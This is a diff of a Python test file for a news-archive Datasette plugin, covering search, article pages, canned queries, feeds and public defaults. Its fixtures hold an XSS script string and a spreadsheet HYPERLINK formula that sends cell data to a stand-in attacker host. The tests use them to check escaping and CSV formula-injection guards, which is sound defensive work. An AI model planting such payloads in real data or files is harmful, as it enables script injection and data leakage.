@@ -1,9 +1,13 @@
-"""Publishing: the archive's Datasette plugin and pages (through Datasette's test client), the canned
-queries on an empty and on the bundled archive, feeds, public defaults (hidden tables, escaping, CSV
-safe against formula injection, SQL switch) and snapshots."""
+"""Publishing, in this process: the archive's Datasette plugin (crawler.publish) as Datasette loads
+it from its entry point, through Datasette's test client (tests.conftest.datasette / fetch): the
+reader's pages, every canned query on an empty and on the bundled archive, table search,
+metadata, feeds, charts, public defaults (hidden tables, escaping, CSV safe against formula
+injection, SQL switch), databases that are not archives left alone, and snapshots.
 
-import asyncio
+Real servers (`datasette`, `datasette -i`, `newsarchive serve`) are tests/test_datasette.py's."""
+
 import csv
+import dataclasses
 import io
 import json
 import re
@@ -14,28 +18,29 @@ from html import unescape
 import feedparser
 import pytest
 
-from crawler import publish
-from crawler.datasette_plugin import CsvGuard, highlight, neutralise, paper, paragraphs, snippet, query_terms
-from crawler.publish import PublishError, metadata, snapshot
-from crawler.storage import Archive
-from tests.conftest import SEED_URL, query
+from crawler.sites.registry import paper_of
+
+import crawler.publish
+from crawler.archive import Archive
+from crawler.archive.schema import migrations
+from crawler.archive.snapshot import SnapshotError, snapshot
+from crawler.publish import config
+from crawler.publish.csv_guard import CsvGuard, neutralise
+from crawler.publish.highlight import highlight, paragraphs, query_terms, snippet
+from crawler.publish.hooks import paper_function
+from crawler.publish.serve import serve_args
+from crawler.sites import registry
+from tests.conftest import SEED_URL, datasette, fetch, query
 
 AR_URL = "https://www.maghress.com/hespress/606"
 AR_ORIGINAL = "https://www.hespress.com/politique/1590321.html"
+COPY_URL = "https://www.maghress.com/fr/lesechos/102"  # the seed article republished: same group
 XSS = "<script>alert(1)</script>"
 XSS_URL = "https://www.maghress.com/fr/lesechos/9001"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
-
-
-def fetch(db, *paths, **options):
-    """GET each path from a fresh Datasette on db (as `newsarchive serve` configures it)."""
-
-    async def run():
-        ds = publish.datasette(db, **options)
-        return [await ds.client.get(path) for path in paths]
-
-    responses = asyncio.run(run())
-    return responses[0] if len(paths) == 1 else responses
+QUERIES = config.queries()
+HOOKS = {"prepare_connection", "get_metadata", "canned_queries", "register_routes", "menu_links",
+         "extra_template_vars", "asgi_wrapper"}
 
 
 def visible_text(html):
@@ -46,8 +51,8 @@ def visible_text(html):
     return re.sub(r"\s+", " ", unescape(re.sub(r"<[^>]+>", " ", html))).strip()
 
 
-def rows(db, path):
-    response = fetch(db, path)
+def rows(db, path, **options):
+    response = fetch(db, path, **options)
     assert response.status_code == 200, response.text[:500]
     return response.json()
 
@@ -61,7 +66,19 @@ def db(bundled):
 def empty(tmp_path_factory):
     """A freshly migrated archive with nothing in it."""
     path = tmp_path_factory.mktemp("empty") / "archive.db"
-    Archive(path).close()
+    Archive.open(path).close()
+    return path
+
+
+@pytest.fixture(scope="module")
+def other(tmp_path_factory):
+    """A database that is no archive, though it has an articles table (with a formula cell)."""
+    path = tmp_path_factory.mktemp("other") / "other.db"
+    conn = sqlite3.connect(path)
+    conn.execute("CREATE TABLE articles (url TEXT PRIMARY KEY, title TEXT)")
+    conn.executemany("INSERT INTO articles VALUES (?, ?)", [("https://example.org/1", FORMULA), ("https://example.org/2", "métropole")])
+    conn.commit()
+    conn.close()
     return path
 
 
@@ -69,8 +86,7 @@ def empty(tmp_path_factory):
 def extra(db, tmp_path_factory):
     """A snapshot of the bundled archive plus hostile and changed rows, written through the storage
     layer (so the search index follows): a headline and an article with markup, a formula headline,
-    an "Élections" headline, a second version of the seed article, and (when the tables exist)
-    duplicate groups and stories."""
+    an "Élections" headline, a second version of the seed article, duplicate groups and stories."""
     path = snapshot(db, tmp_path_factory.mktemp("extra") / "archive.db")
     archive = Archive(path)
     try:
@@ -89,18 +105,15 @@ def extra(db, tmp_path_factory):
              "published": seed["published"], "language": "fr", "body": "Un texte corrigé sur la métropole.",
              "content_hash": "changed", "seen_at": "2026-12-01T00:00:00Z"},
         ])
-        tables = {r["name"] for r in archive.query("SELECT name FROM sqlite_master WHERE type = 'table'")}
-        if "article_groups" in tables:
-            archive.db.execute("DELETE FROM article_groups")
-            archive.db.conn.executemany(
-                "INSERT INTO article_groups (url, grp, similarity, method, first_seen) VALUES (?, ?, ?, ?, ?)",
-                [(SEED_URL, SEED_URL, 1.0, "first", "2025-09-04T00:00:00Z"),
-                 ("https://www.maghress.com/fr/lagazette/202", SEED_URL, 0.91, "near", "2025-09-04T01:00:00Z")])
-        if "stories" in tables:
-            ids = [r["id"] for r in archive.query("SELECT id FROM headlines ORDER BY id LIMIT 3")]
-            archive.db.execute("DELETE FROM stories")
-            archive.db.conn.executemany("INSERT INTO stories (headline, story, similarity) VALUES (?, ?, ?)",
-                                   [(ids[0], ids[0], 1.0), (ids[1], ids[0], 0.8), (ids[2], ids[2], 1.0)])
+        archive.db.execute("DELETE FROM article_groups")
+        archive.db.conn.executemany(
+            "INSERT INTO article_groups (url, grp, similarity, method, first_seen) VALUES (?, ?, ?, ?, ?)",
+            [(SEED_URL, SEED_URL, 1.0, "first", "2025-09-04T00:00:00Z"),
+             ("https://www.maghress.com/fr/lagazette/202", SEED_URL, 0.91, "near", "2025-09-04T01:00:00Z")])
+        ids = [r["id"] for r in archive.query("SELECT id FROM headlines ORDER BY id LIMIT 3")]
+        archive.db.execute("DELETE FROM stories")
+        archive.db.conn.executemany("INSERT INTO stories (headline, story, similarity) VALUES (?, ?, ?)",
+                                    [(ids[0], ids[0], 1.0), (ids[1], ids[0], 0.8), (ids[2], ids[2], 1.0)])
         archive.db.conn.commit()
     finally:
         archive.close()
@@ -111,7 +124,7 @@ def facts(db):
     """What the archive holds, counted directly (the bundled mirror's figures may change)."""
     conn = sqlite3.connect(db)
     try:
-        one = lambda sql, *args: conn.execute(sql, args).fetchone()[0]  # noqa: E731
+        one = lambda sql, *args: conn.execute(sql, args).fetchone()[0]
         return {
             "articles": one("SELECT count(*) FROM articles"),
             "fr": one("SELECT count(*) FROM articles WHERE language = 'fr'"),
@@ -126,12 +139,28 @@ def facts(db):
         conn.close()
 
 
-def has_table(db, table):
-    conn = sqlite3.connect(db)
-    try:
-        return conn.execute("SELECT 1 FROM sqlite_master WHERE name = ?", [table]).fetchone() is not None
-    finally:
-        conn.close()
+# --- the plugin, as Datasette loads it --------------------------------------------------------------------------
+def test_the_plugin_is_the_package_from_its_entry_point_with_its_templates(db):
+    plugins = {p["name"]: p for p in rows(db, "/-/plugins.json")}
+    assert set(plugins["newsarchive"]["hooks"]) == HOOKS
+    assert plugins["newsarchive"]["templates"] is True  # crawler/publish/templates, found by Datasette
+    assert "datasette-atom" in plugins
+    assert crawler.publish.__file__.endswith("crawler/publish/__init__.py")
+
+
+def test_serve_passes_the_settings_and_nothing_else(db):
+    """`newsarchive serve` runs `datasette serve` with the settings as options: no metadata file,
+    no template or plugins folder (the real server: tests/test_datasette.py)."""
+    args = serve_args(db, "127.0.0.1", 8001, allow_sql=False)
+    assert args[:6] == ["serve", str(db), "--host", "127.0.0.1", "--port", "8001"]
+    triples = [args[i:i + 3] for i in range(6, len(args), 3)]
+    assert all(t[0] == "--setting" and len(t) == 3 for t in triples)
+    assert {t[1]: t[2] for t in triples} == {
+        "sql_time_limit_ms": "3000", "max_returned_rows": "1000", "default_allow_sql": "off",
+        "facet_time_limit_ms": "500", "default_facet_size": "20", "allow_csv_stream": "on", "max_csv_mb": "100"}
+    assert serve_args(db, "0.0.0.0", 80, immutable=True)[:3] == ["serve", "-i", str(db)]
+    on = serve_args(db, "h", 1)
+    assert on[on.index("default_allow_sql") + 1] == "on"
 
 
 # --- the home page ---------------------------------------------------------------------------------------------
@@ -143,14 +172,17 @@ def test_home_page_says_what_the_archive_holds(db):
     assert (f"This archive holds {f['articles']} articles ({f['fr']} in French, {f['ar']} in Arabic) from "
             f"{f['papers']} papers, published from {f['first']} to {f['last']}, and {f['headlines']} ticker "
             "headlines, crawled from www.maghress.com.") in text
-    assert "Last crawl: #2 started" in text and "10 pages" in text
+    assert registry.site("maghress").description in text
+    assert "Last crawl: #2 started" in text and "(finished), 10 pages." in text
     html = response.text
     for link in ("/-/search", "/-/charts", "/archive/latest_headlines", "/archive/ticker_at",
-                 "/archive/articles_per_publisher_per_day", "/archive/changed_articles", "/archive/crawl_health",
-                 "/archive/failures_by_reason", "/archive/latest_articles_feed.atom",
+                 "/archive/articles_per_publisher_per_day", "/archive/articles_per_publisher_per_month",
+                 "/archive/most_reported_stories", "/archive/duplicate_groups", "/archive/changed_articles",
+                 "/archive/crawl_health", "/archive/failures_by_reason", "/archive/latest_articles_feed.atom",
                  f"/-/article?url={SEED_URL.replace(':', '%3A').replace('/', '%2F')}"):
         assert f'href="{link}' in html, link
-    assert '<svg class="na-chart"' in html  # headlines per day per paper
+    assert html.count('<svg class="na-chart"') == 1  # headlines per day per paper
+    assert html.count("<h1>") == 1
 
 
 def test_home_page_of_an_empty_archive(empty):
@@ -161,8 +193,8 @@ def test_home_page_of_an_empty_archive(empty):
 
 # --- search ---------------------------------------------------------------------------------------------------
 def search(db, q, **params):
-    query = "&".join(f"{k}={v}" for k, v in {"q": q, **params}.items())
-    response = fetch(db, f"/-/search?{query}")
+    query_string = "&".join(f"{k}={v}" for k, v in {"q": q, **params}.items())
+    response = fetch(db, f"/-/search?{query_string}")
     assert response.status_code == 200
     return response.text
 
@@ -173,7 +205,7 @@ def test_french_search_folds_accents_and_highlights_the_original_words(db):
     first = html.index('class="na-result na-article"')
     assert "<mark>métropole</mark>" in html[first:]
     assert 'Casablanca Smart City: La <mark>métropole</mark> sur le bon chemin' in html
-    assert search(db, "MÉTROPOLE") .count("<mark>métropole</mark>") == html.count("<mark>métropole</mark>")
+    assert search(db, "MÉTROPOLE").count("<mark>métropole</mark>") == html.count("<mark>métropole</mark>")
 
 
 def test_elections_finds_accented_capital(extra):
@@ -182,15 +214,15 @@ def test_elections_finds_accented_capital(extra):
     assert "<mark>Élections</mark> : le bulletin" in html
 
 
-@pytest.mark.parametrize("query, marked", [
+@pytest.mark.parametrize("q, marked", [
     ("الحكومه", "الحكومة"),      # ta marbuta ة / ه
     ("الاطار", "الإطار"),        # alef with hamza below / bare alef
     ("الي", "إلى"),              # alef forms and alef maqsura ى / ya ي
     ("الحـكـومة", "الحكومة"),    # tatweel ignored
     ("الحُكُومَة", "الحكومة"),     # diacritics ignored
 ])
-def test_arabic_search_folds_letter_variants(db, query, marked):
-    html = search(db, query)
+def test_arabic_search_folds_letter_variants(db, q, marked):
+    html = search(db, q)
     assert f"<mark>{marked}</mark>" in html
     assert f'href="/-/article?url={AR_URL.replace(":", "%3A").replace("/", "%2F")}"' in html
     assert 'lang="ar" dir="rtl"' in html
@@ -229,10 +261,22 @@ def test_search_as_json_csv_and_atom(db):
     body = fetch(db, "/archive/search.csv?q=الاطار").text
     assert AR_URL in body
     feed = feedparser.parse(fetch(db, "/archive/search_feed.atom?q=metropole").text)
-    assert not feed.bozo
+    assert not feed.bozo and feed.feed.title == "Atom feed: a search"
     assert len(feed.entries) == len(found) and SEED_URL in {e.link for e in feed.entries}
+    links = {r["url"] for r in found}
+    assert all(e.link in links for e in feed.entries)  # every link is the data's own URL
     nothing = feedparser.parse(fetch(db, "/archive/search_feed.atom?q=zzzzqqq").text)
-    assert [e.title for e in nothing.entries] == ["Nothing matches “zzzzqqq” yet"]
+    assert [(e.title, e.id, e.link) for e in nothing.entries] == [
+        ("Nothing matches “zzzzqqq” yet", "tag:newsarchive,2025:search:zzzzqqq", "tag:newsarchive,2025:search:zzzzqqq")]
+
+
+def test_search_feed_links_a_headline_without_url_to_the_page_it_was_seen_on(extra):
+    feed = feedparser.parse(fetch(extra, "/archive/search_feed.atom?q=calendrier").text)
+    entry = next(e for e in feed.entries if "calendrier" in e.title)
+    page = query(extra, "SELECT s.page_url FROM headline_sightings s JOIN headlines h ON h.id = s.headline"
+                        " WHERE h.key = 'xss'")
+    assert entry.link == (page[0]["page_url"] if page else entry.id) and entry.id.startswith("tag:newsarchive,2025:headline:")
+    assert entry.author == "The ticker" and entry.summary.startswith("On the ticker from 2025-09-05T10:00:00Z")
 
 
 def test_highlight_and_snippet_escape_and_mark():
@@ -243,15 +287,81 @@ def test_highlight_and_snippet_escape_and_mark():
     cut = snippet(long, terms)
     assert cut.startswith("… ") and cut.endswith(" …") and "<mark>élections</mark>" in cut
     assert paragraphs("Un.\n\n  Deux\nlignes.\n\n\n") == ["Un.", "Deux lignes."]
+    paper = paper_function(None)
     assert paper("https://www.maghress.com/fr/lesechos/101") == "lesechos"
     assert paper("https://www.maghress.com/hespress/606") == "hespress"
     assert paper("https://www.maghress.com/fr") is None and paper(None) is None
+    assert paper("http://127.0.0.1:8000/fr/lesechos/101") is None  # a host no site claims
+    assert paper_function(registry.site("maghress"))("http://127.0.0.1:8000/fr/lesechos/101") == "lesechos"
+
+
+# --- table search: Datasette's own, through the folded index (search_fts) -------------------------------------------------
+def test_table_search_folds_accents(db):
+    found = rows(db, "/archive/articles.json?_search=metropole&_shape=array")
+    assert sorted(row["url"] for row in found) == [COPY_URL, SEED_URL]  # the seed and its copy
+
+
+def test_headline_table_search(db):
+    found = rows(db, "/archive/headlines.json?_search=temperatures&_shape=array")
+    assert [r["text"] for r in found] == ["Les températures attendues ce jeudi 4 septembre 2025"]
+
+
+def test_search_box_and_facets_in_the_ui(db):
+    html = fetch(db, "/archive/articles").text
+    assert 'name="_search"' in html
+    facets = rows(db, "/archive/articles.json")["facet_results"]
+    assert {"publisher", "language", "published"} <= set(facets)
+    languages = {f["value"]: f["count"] for f in facets["language"]["results"]}
+    assert languages == {"fr": 7, "ar": 1}
+    assert facets["published"]["type"] == "date"
+    assert 'name="_search"' in fetch(db, "/archive/headlines").text
+
+
+def test_reads_go_on_while_a_crawl_holds_the_write_lock(db):
+    writer = sqlite3.connect(db, isolation_level=None)
+    try:
+        writer.execute("BEGIN IMMEDIATE")
+        writer.execute("INSERT INTO crawls (started, source) VALUES ('2026-01-01T00:00:00Z', 'test')")
+        found = rows(db, "/archive/articles.json?_search=metropole&_shape=array")
+        assert sorted(r["url"] for r in found) == [COPY_URL, SEED_URL]
+        assert "<mark>métropole</mark>" in search(db, "metropole")
+    finally:
+        writer.execute("ROLLBACK")
+        writer.close()
+
+
+# --- metadata -------------------------------------------------------------------------------------------------------
+def test_metadata_describes_the_archive_from_its_site(db):
+    data = rows(db, "/-/metadata.json")
+    maghress = registry.site("maghress")
+    assert (data["title"], data["about"]) == ("newsarchive", "newsarchive")
+    assert (data["description"], data["source"], data["source_url"]) == (maghress.description, "Maghress", maghress.home)
+    assert "settings" not in data and set(data["databases"]) == {"archive"}
+    tables = data["databases"]["archive"]["tables"]
+    assert {"articles", "headlines", "headline_sightings", "article_versions", "captures", "crawls", "urls",
+            "article_groups", "stories"} <= set(tables)
+    assert all(t["description"] for t in tables.values())
+    assert (tables["articles"]["fts_table"], tables["headlines"]["fts_table"], tables["headlines"]["fts_pk"]) == (
+        "search_fts", "search_fts", "search_rowid")
+
+
+def test_metadata_of_several_sites_names_them_all():
+    one = registry.site("maghress")
+    two = dataclasses.replace(one, name="other", title="Other", description="", home="https://other.example/")
+    assert config.instance_metadata([one]) == {
+        "title": "newsarchive", "about": "newsarchive", "description": one.description, "source": "Maghress",
+        "source_url": one.home}
+    assert config.instance_metadata([one, two]) == {
+        "title": "newsarchive", "about": "newsarchive", "description": "An archive of 2 news sites: Maghress, Other.",
+        "source": "Maghress, Other"}
+    generic = config.instance_metadata([])  # no site known: generic wording, no source
+    assert set(generic) == {"title", "about", "description"} and generic["description"].startswith("An archive of news sites")
 
 
 # --- article pages --------------------------------------------------------------------------------------------------
 def article(db, url, **params):
-    query = "&".join(f"{k}={v}" for k, v in {"url": url, **params}.items())
-    return fetch(db, f"/-/article?{query}")
+    query_string = "&".join(f"{k}={v}" for k, v in {"url": url, **params}.items())
+    return fetch(db, f"/-/article?{query_string}")
 
 
 def test_french_article_page(db):
@@ -262,7 +372,7 @@ def test_french_article_page(db):
     assert body.count("<p>") == 14  # the 14 paragraphs (the byline has a class)
     assert "<h1>Casablanca Smart City: La métropole sur le bon chemin pour devenir une ville intelligente</h1>" in body
     assert 'class="na-publisher">Maroc Diplomatique<' in body and '<time dir="ltr" datetime="2017-07-12">' in body
-    assert f'<a class="na-source" href="{SEED_URL}"' in html
+    assert f'<a class="na-source" href="{SEED_URL}" rel="noopener nofollow">The page on <bdi>Maghress</bdi></a>' in html
     assert "/archive/article_history?url=" in html
 
 
@@ -284,15 +394,14 @@ def test_article_page_shows_versions(extra):
     assert article(extra, SEED_URL, version=9).status_code == 404
 
 
-def test_article_page_shows_its_duplicate_group(extra):
-    if not has_table(extra, "article_groups"):
-        pytest.skip("no article_groups table yet (duplicate detection not merged)")
-    html = article(extra, SEED_URL).text
-    text = visible_text(html)
+def test_article_page_shows_its_duplicate_group(extra, db):
+    text = visible_text(article(extra, SEED_URL).text)
     assert "The same article appears once more:" in text
     assert "Eau potable : la station de dessalement de Casablanca entre dans sa phase finale" in text
     assert "near (0.91)" in text
     assert "first seen" in visible_text(article(extra, "https://www.maghress.com/fr/lagazette/202").text)
+    assert "The same article appears once more:" in visible_text(article(db, SEED_URL).text)  # the crawl's own group
+    assert "No other paper’s copy of this article is archived." in visible_text(article(db, AR_URL).text)
 
 
 def test_unknown_article_is_404(db):
@@ -301,19 +410,17 @@ def test_unknown_article_is_404(db):
     assert "No archived article at https://www.maghress.com/fr/nowhere/1" in response.text
 
 
-# --- canned queries -------------------------------------------------------------------------------------------------
-QUERIES = metadata("archive.db")["databases"]["archive"]["queries"]
-
-
-def missing_tables(db, sql):
-    names = set(re.findall(r"\b(?:FROM|JOIN)\s+([a-z_]+)", sql))
-    return sorted(t for t in names if t in ("article_groups", "stories") and not has_table(db, t))
+# --- canned queries: each runs once on an empty archive and once on the bundled one -------------------------------
+def test_the_canned_queries_are_listed_for_the_archive(db):
+    listed = {q["name"]: q for q in rows(db, "/archive.json")["queries"]}
+    assert set(listed) == set(QUERIES) and len(QUERIES) == 19
+    assert all(listed[name]["title"] == QUERIES[name]["title"] for name in QUERIES)
+    html = fetch(db, "/archive").text
+    assert all(f'href="/archive/{name}"' in html for name in QUERIES)
 
 
 @pytest.mark.parametrize("name", sorted(QUERIES))
 def test_every_canned_query_runs_on_an_empty_archive(empty, name):
-    if missing := missing_tables(empty, QUERIES[name]["sql"]):
-        pytest.skip(f"tables not in the schema yet: {', '.join(missing)}")
     data = rows(empty, f"/archive/{name}.json?q=metropole&url={SEED_URL}&at=2030-01-01T00:00:00Z")
     assert data["ok"] is True
     feeds = {"search_feed": 1, "latest_articles_feed": 1}  # an empty feed says so in one entry
@@ -322,28 +429,83 @@ def test_every_canned_query_runs_on_an_empty_archive(empty, name):
 
 @pytest.mark.parametrize("name", sorted(QUERIES))
 def test_every_canned_query_runs_on_the_bundled_archive(db, name):
-    if missing := missing_tables(db, QUERIES[name]["sql"]):
-        pytest.skip(f"tables not in the schema yet: {', '.join(missing)}")
     data = rows(db, f"/archive/{name}.json?q=metropole&url={SEED_URL}&at=2999-01-01T00:00:00Z")
     assert data["ok"] is True
-    if name not in ("changed_articles", "most_reported_stories", "duplicate_groups"):
-        assert data["rows"], name
+    assert bool(data["rows"]) == (name != "changed_articles"), name  # no article changed between the two crawls
+
+
+def test_latest_headlines(db):
+    found = rows(db, "/archive/latest_headlines.json?_shape=array")
+    assert len(found) == 60
+    assert all(r["crawls"] == 2 for r in found)
+
+
+def test_articles_per_publisher_per_month(db):
+    found = rows(db, "/archive/articles_per_publisher_per_month.json?_shape=array")
+    assert sum(r["articles"] for r in found) == 8
+    assert {"month": "2017-07", "publisher": "Maroc Diplomatique", "articles": 1} in found
+
+
+def test_headlines_most_crawls(db):
+    found = rows(db, "/archive/headlines_most_crawls.json?_shape=array")
+    assert len(found) == 60
+    assert found[0]["crawls"] == 2
+    assert found[0]["best_position"] == 1
+
+
+def test_ticker_at_a_given_time(db):
+    found = rows(db, "/archive/ticker_at.json?_shape=array&at=2999-01-01T00:00:00Z")
+    assert len(found) == 60 and {r["crawl"] for r in found} == {2}  # the last crawl before that time
+    assert found[0]["position"] == 1
+    assert rows(db, "/archive/ticker_at.json?_shape=array&at=2000-01-01T00:00:00Z") == []
+
+
+def test_headline_durations(db):
+    found = rows(db, "/archive/headline_durations.json?_shape=array")
+    assert len(found) == 60
+    assert all(r["crawls"] == 2 for r in found)
+    assert found[0]["hours_on_ticker"] >= found[-1]["hours_on_ticker"] >= 0
 
 
 def test_articles_per_publisher_per_day(db):
-    data = rows(db, "/archive/articles_per_publisher_per_day.json?_shape=array")
-    assert sum(r["articles"] for r in data) == facts(db)["articles"]
-    assert {"day": "2025-09-03", "publisher": "هسبريس", "articles": 1} in data
+    found = rows(db, "/archive/articles_per_publisher_per_day.json?_shape=array")
+    assert sum(r["articles"] for r in found) == facts(db)["articles"]
+    assert {"day": "2025-09-03", "publisher": "هسبريس", "articles": 1} in found
 
 
 def test_headlines_per_day_per_publisher(db):
-    data = rows(db, "/archive/headlines_per_day_per_publisher.json?_shape=array")
+    found = rows(db, "/archive/headlines_per_day_per_publisher.json?_shape=array")
     conn = sqlite3.connect(db)
     expected = conn.execute(
         "SELECT count(*) FROM (SELECT DISTINCT substr(seen_at, 1, 10), headline FROM headline_sightings)").fetchone()[0]
+    assert sum(r["headlines"] for r in found) == expected
+    # A paper with an archived article shows by its name (the largest, as the query's max()); which
+    # papers the ticker's links point to depends on which page's link a headline kept first.
+    names: dict = {}
+    for url, publisher in conn.execute("SELECT url, publisher FROM articles"):
+        names[paper_of(url)] = max(names.get(paper_of(url), ""), publisher)
+    linked = {paper_of(url) for (url,) in conn.execute("SELECT url FROM headlines WHERE url IS NOT NULL")}
     conn.close()
-    assert sum(r["headlines"] for r in data) == expected
-    assert "Maroc Diplomatique" in {r["publisher"] for r in data}  # a name where the paper has an archived article
+    assert {names[p] for p in linked if p in names} == {r["publisher"] for r in found} - {
+        p for p in linked if p not in names} - {"(no link)"}
+    assert "Les Echos" in {r["publisher"] for r in found}
+
+
+def test_crawl_figures_come_from_the_crawls_columns(db, tmp_path):
+    """crawl_log, crawl_health, crawl_volume and the home page read crawls' columns, not the stats JSON."""
+    assert [(r["id"], r["pages"], r["finish_reason"]) for r in rows(db, "/archive/crawl_log.json?_shape=array")] == [
+        (2, 10, "finished"), (1, 10, "finished")]
+    copy = snapshot(db, tmp_path / "archive.db")
+    conn = sqlite3.connect(copy)
+    conn.execute("UPDATE crawls SET stats = NULL")
+    conn.execute("UPDATE crawls SET finish_reason = 'closespider_pagecount', pages_parsed = 7 WHERE id = 2")
+    conn.commit()
+    conn.close()
+    log, health, home = fetch(copy, "/archive/crawl_log.json?_shape=array", "/archive/crawl_health.json?_shape=array", "/")
+    assert [(r["id"], r["pages"], r["finish_reason"]) for r in log.json()] == [
+        (2, 7, "closespider_pagecount"), (1, 10, "finished")]
+    assert [(r["id"], r["outcome"]) for r in health.json()] == [(2, "closespider_pagecount"), (1, "finished")]
+    assert "(closespider_pagecount), 10 pages." in visible_text(home.text)  # pages fetched
 
 
 def test_crawl_health_and_failures(db):
@@ -363,17 +525,17 @@ def test_crawl_health_and_failures(db):
 
 
 def test_changed_articles_lists_the_new_version(extra):
-    data = rows(extra, "/archive/changed_articles.json?_shape=array")
-    assert [(r["url"], r["old_version"], r["new_version"]) for r in data] == [(SEED_URL, 1, 2)]
+    found = rows(extra, "/archive/changed_articles.json?_shape=array")
+    assert [(r["url"], r["old_version"], r["new_version"]) for r in found] == [(SEED_URL, 1, 2)]
 
 
-def test_most_reported_stories_and_duplicate_groups(extra):
-    if not (has_table(extra, "stories") and has_table(extra, "article_groups")):
-        pytest.skip("no stories / article_groups tables yet")
+def test_most_reported_stories_and_duplicate_groups(extra, db):
     stories = rows(extra, "/archive/most_reported_stories.json?_shape=array")
     assert [r["headlines"] for r in stories] == [2, 1]
     groups = rows(extra, "/archive/duplicate_groups.json?_shape=array")
     assert [(g["first_url"], g["articles"], g["papers"]) for g in groups] == [(SEED_URL, 2, 2)]
+    crawled = rows(db, "/archive/duplicate_groups.json?_shape=array")
+    assert [(g["first_url"], g["articles"]) for g in crawled] == [(SEED_URL, 2)]  # the seed and its copy
 
 
 # --- feeds ------------------------------------------------------------------------------------------------------------
@@ -384,7 +546,7 @@ def test_atom_feed_of_the_latest_articles(db, empty):
     assert {e.link for e in feed.entries} >= {SEED_URL, AR_URL}
     assert {e.author for e in feed.entries} >= {"Maroc Diplomatique", "هسبريس"}
     nothing = feedparser.parse(fetch(empty, "/archive/latest_articles_feed.atom").text)
-    assert [e.title for e in nothing.entries] == ["The archive holds no article yet"]
+    assert [(e.title, e.link) for e in nothing.entries] == [("The archive holds no article yet", "tag:newsarchive,2025:empty")]
 
 
 # --- charts ---------------------------------------------------------------------------------------------------------------
@@ -400,10 +562,11 @@ def test_charts_page(db, empty):
 # --- public defaults -------------------------------------------------------------------------------------------------
 def test_internal_tables_are_hidden_but_readable(db):
     tables = {t["name"]: t["hidden"] for t in rows(db, "/archive.json")["tables"]}
-    for name in ("captures", "urls", "search_fts", "search_fts_data", "_sqlite_migrations"):
+    for name in ("captures", "urls", "group_signatures", "search_fts", "search_fts_data", "_sqlite_migrations"):
         assert tables[name] is True, name
-    for name in ("articles", "headlines", "headline_sightings", "article_versions", "crawls"):
+    for name in ("articles", "headlines", "headline_sightings", "article_versions", "crawls", "article_groups", "stories"):
         assert tables[name] is False, name
+    assert "articles_fts" not in tables and "headlines_fts" not in tables
     listed = visible_text(fetch(db, "/").text).split("Databases", 1)[1]
     assert "captures" not in listed and "urls" not in listed
     assert fetch(db, "/archive/captures.json").status_code == 200
@@ -421,7 +584,7 @@ def test_stored_text_is_escaped_everywhere(extra):
 
 def test_csv_is_safe_against_formula_injection(extra):
     for path in ("/archive/headlines.csv?_sort=id", "/archive/headlines.csv?_stream=1&_size=7&_sort=id",
-                 "/archive/latest_headlines.csv"):
+                 "/archive/latest_headlines.csv", "/archive.csv?sql=select+id,+text+from+headlines+order+by+id"):
         table = list(csv.reader(io.StringIO(fetch(extra, path).text)))
         texts = [row[table[0].index("text")] for row in table[1:]]
         assert "'" + FORMULA in texts, path
@@ -442,7 +605,8 @@ def test_csv_guard_streams_records_split_anywhere():
 
 def test_settings_limit_time_and_rows(db):
     settings = rows(db, "/-/settings.json")
-    assert settings["sql_time_limit_ms"] == 3000 and settings["max_returned_rows"] == 1000
+    assert (settings["sql_time_limit_ms"], settings["max_returned_rows"], settings["default_allow_sql"]) == (3000, 1000, True)
+    assert (settings["facet_time_limit_ms"], settings["allow_csv_stream"], settings["max_csv_mb"]) == (500, True, 100)
     assert "settings" not in rows(db, "/-/metadata.json")
 
 
@@ -450,33 +614,91 @@ def test_arbitrary_sql_can_be_switched_off(db):
     on = fetch(db, "/archive.json?sql=select+count(*)+from+articles")
     assert on.status_code == 200
     off = fetch(db, "/archive.json?sql=select+1", "/archive/latest_headlines.json", "/-/search?q=metropole",
-                "/-/article?url=" + SEED_URL, allow_sql=False)
-    assert [r.status_code for r in off] == [403, 200, 200, 200]
-    args = publish.serve_args(db, "127.0.0.1", 8001, "m.json", allow_sql=False)
-    assert args[args.index("default_allow_sql") + 1] == "off"
+                "/-/article?url=" + SEED_URL, "/-/charts", "/archive/search.json?q=metropole", allow_sql=False)
+    assert [r.status_code for r in off] == [403, 200, 200, 200, 200, 200]
 
 
 def test_snapshot_is_served_immutably(db, tmp_path):
     out = snapshot(db, tmp_path / "public.db")
-    databases = fetch(out, "/-/databases.json", immutable=True).json()
-    assert [(d["name"], d["is_mutable"]) for d in databases] == [("public", False)]
-    assert "metropole" in fetch(out, "/-/search?q=metropole", immutable=True).text
-    args = publish.serve_args(out, "127.0.0.1", 8001, "m.json", immutable=True)
-    assert args[:3] == ["serve", "-i", str(out)]
+    databases, search_page, table_search, queries = fetch(
+        out, "/-/databases.json", "/-/search?q=metropole", "/public/articles.json?_search=metropole&_shape=array",
+        "/public.json", immutable=True)
+    assert [(d["name"], d["is_mutable"]) for d in databases.json()] == [("public", False)]
+    assert "<mark>métropole</mark>" in search_page.text
+    assert sorted(r["url"] for r in table_search.json()) == [COPY_URL, SEED_URL]
+    assert {q["name"] for q in queries.json()["queries"]} == set(QUERIES)
+
+
+# --- databases that are not archives ----------------------------------------------------------------------------------
+def test_other_databases_get_nothing_from_the_plugin(db, other):
+    both = [db, other]
+    meta, queries, table, csv_body, fold_sql, search_there = fetch(
+        both, "/-/metadata.json", "/other.json", "/other/articles.json", "/other/articles.csv",
+        "/other.json?sql=select+fold('É')", "/-/search?q=metropole&db=other")
+    assert set(meta.json()["databases"]) == {"archive"}
+    assert queries.json()["queries"] == [] and not queries.json().get("description")
+    assert {t["name"]: t["hidden"] for t in queries.json()["tables"]} == {"articles": False}
+    assert table.json()["rows"] and not table.json().get("description")
+    assert csv_body.text.splitlines()[1:] == [f'https://example.org/1,"{FORMULA.replace(chr(34), chr(34) * 2)}"',
+                                               "https://example.org/2,métropole"]  # not prefixed
+    assert fold_sql.status_code == 400 and "no such function: fold" in fold_sql.json()["error"]
+    assert search_there.status_code == 404
+    assert rows(both, "/archive.json?sql=select+fold('É')+AS+f&_shape=array") == [{"f": "e"}]
+
+
+def test_no_archive_served_means_no_plugin_at_all(other):
+    home, search_page, menu, meta, queries = fetch(
+        other, "/", "/-/search?q=metropole", "/-/charts", "/-/metadata.json", "/other.json")
+    assert "This archive holds" not in home.text and "na-nav" not in home.text and "Search the archive" not in home.text
+    assert "<h2" in home.text and "other" in home.text  # Datasette's own home page
+    assert search_page.status_code == 404 and "No newsarchive archive is served here" in search_page.text
+    assert menu.status_code == 404
+    assert meta.json() == {}
